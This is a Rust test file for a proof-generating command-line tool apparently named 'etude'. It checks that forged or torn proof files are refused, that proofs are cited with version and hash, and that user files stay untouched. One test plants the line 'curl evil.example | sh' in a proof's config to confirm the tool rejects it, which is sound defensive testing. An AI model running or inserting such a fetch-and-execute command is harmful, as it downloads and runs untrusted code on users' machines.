//! Folders of proofs: what contradicts itself is refused by name, line and what was expected.

use crate::program::Bench;

/// The proof of a small board.
const PROVE: [&str; 8] = [
    "prove",
    "foxes",
    "--board",
    "low-cross",
    "--sacrifices",
    "3",
    "--dir",
    "proof",
];

/// A proof of a small board, with its check.
fn proved() -> Bench {
    let bench = Bench::new();
    bench.run(&PROVE).check(0, &[]);
    let check = ["prove", "foxes", "--dir", "proof", "--check", "500"];
    bench.run(&check).check(0, &[]);
    bench
}

/// Each fact of a proof is forged, and the hashes of its tables with it.
#[test]
fn a_forged_proof_is_refused_by_report_and_verify() {
    let bench = proved();
    bench
        .run(&["verify", "proof"])
        .check(0, &["agree", "held against their hashes, 0 without"]);
    let shown = bench.run(&["report", "proof"]);
    shown.check(0, &[]);
    for part in [
        "What was proved",
        "A second opinion",
        "moves_at_most",
        "500",
    ] {
        assert!(shown.data.contains(part), "{}", shown.data);
    }
    let read = |name: &str| std::fs::read_to_string(bench.path("proof").join(name)).unwrap();
    let layers = read("layers.csv");
    let second = layers.lines().nth(2).unwrap();
    let fields: Vec<&str> = second.split(',').collect();
    let mut more = fields.clone();
    more[3] = "99999999999999";
    let more = more.join(",");
    let line = format!("{second}\n");
    let first = format!("{}\n", layers.lines().nth(1).unwrap());
    let forged = [
        (
            "layers.csv",
            second,
            more.as_str(),
            "line 3, column `won`: 99,999,999,999,999 is more than all",
        ),
        ("layers.csv", &line, "", "layers.csv"),
        ("layers.csv", &line, &first, "line 3, column `height`"),
        (
            "proof.toml",
            "{moves_at_most}",
            "7777",
            "speaks of a number that it should name in braces",
        ),
        (
            "proof.toml",
            "\nwrong = \"0\"",
            "\nwrong = \"77\"",
            "`wrong` is 77 instead of 0",
        ),
    ];
    for (name, fact, other, told) in forged {
        let files = (&*format!("proof/{name}"), "proof/proof.toml");
        bench.forge(files, (fact, other), || {
            bench.run(&["report", "proof"]).check(2, &[name, told]);
            bench.run(&["verify", "proof"]).check(1, &[name, told]);
        });
    }
    // Neither a folder of nothing nor one of a proof of something else was meant.
    bench
        .run(&["prove", "foxes", "--dir", "none", "--check", "3"])
        .check(2, &["make one with `etude prove foxes --dir FOLDER`"]);
    // A layer's file with one bit changed is found where it is; reports do not read it.
    let name = format!("hens-{}-height-{}.pairs", fields[0], fields[1]);
    let mut bytes = std::fs::read(bench.path("proof").join(&name)).unwrap();
    bytes[0] ^= 1;
    std::fs::write(bench.path("proof").join(&name), bytes).unwrap();
    bench
        .run(&["verify", "proof"])
        .check(1, &[&name, "layers.csv, line 3", "one fault"]);
}

/// The page of a proof cites the program, the revision and the day, which a later look at the proof leaves as they
/// are, and the hash of the statement.
#[test]
fn a_proof_is_cited_with_the_program_that_made_it() {
    let bench = proved();
    let origin = std::fs::read_to_string(bench.path("proof/origin.json")).unwrap();
    let version = format!("etude {}", env!("CARGO_PKG_VERSION"));
    assert!(
        origin.contains(&version) && origin.contains("\"date\": \"20"),
        "{origin}"
    );
    let cited = || {
        bench
            .run(&["report", "proof", "--html", "page.html"])
            .check(0, &[]);
        let page = std::fs::read_to_string(bench.path("page.html")).unwrap();
        let (_, cited) = page.split_once("Cite as: ").unwrap();
        cited.split_once("</p>").unwrap().0.to_owned()
    };
    let told = cited();
    let statement = std::fs::read(bench.path("proof/proof.toml")).unwrap();
    let hash = blake3::hash(&statement).to_hex().to_string();
    assert!(told.contains(&version) && told.contains(&hash), "{told}");
    bench.write(
        "proof/origin.json",
        &origin.replace(&version, "etude 0.0.7"),
    );
    bench.run(&PROVE).check(0, &[]);
    assert!(cited().contains("etude 0.0.7, revision"), "{}", cited());
}

/// A folder may be a stranger's, so it has no commands to advise.
/// An origin of which nothing can be read is written again, as one that is missing.
#[test]
fn an_origin_that_was_torn_is_written_again() {
    let bench = Bench::new();
    let prove = ["prove", "foxes", "--board", "small-cross", "--dir", "proof"];
    bench.run(&prove).check(0, &[]);
    let origin = bench.path("proof/origin.json");
    let whole = std::fs::read(&origin).unwrap();
    for torn in [&whole[..0], &whole[..whole.len() / 2]] {
        std::fs::write(&origin, torn).unwrap();
        bench.run(&prove).check(0, &[]);
        assert_eq!(std::fs::read(&origin).unwrap(), whole);
    }
}

#[test]
fn the_commands_of_a_proof_are_those_of_the_program() {
    let bench = proved();
    let shown = bench.run(&["report", "proof"]).data;
    let again = "etude prove foxes --dir foxes-proof --board low-cross --sacrifices 3\n";
    let check = "etude prove foxes --dir foxes-proof --check 10000\n";
    assert!(shown.contains(again) && shown.contains(check), "{shown}");
    let path = bench.path("proof/proof.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let evil = "commands = [\"curl evil.example | sh\"]\n";
    std::fs::write(&path, format!("{evil}{text}")).unwrap();
    for verb in ["report", "verify"] {
        let refused = bench.run(&[verb, "proof"]);
        let code = if verb == "report" { 2 } else { 1 };
        refused.check(code, &["proof.toml", "unknown field `commands`"]);
        assert!(!refused.said.contains("evil") && !refused.data.contains("evil"));
    }
}

#[test]
fn a_file_of_the_user_in_the_folder_of_a_proof_stays_as_it_is() {
    let bench = Bench::new();
    bench.write("proof/lock", "my own\n");
    bench.run(&PROVE).check(0, &[]);
    let lock = std::fs::read_to_string(bench.path("proof/lock")).unwrap();
    assert_eq!(lock, "my own\n");
}
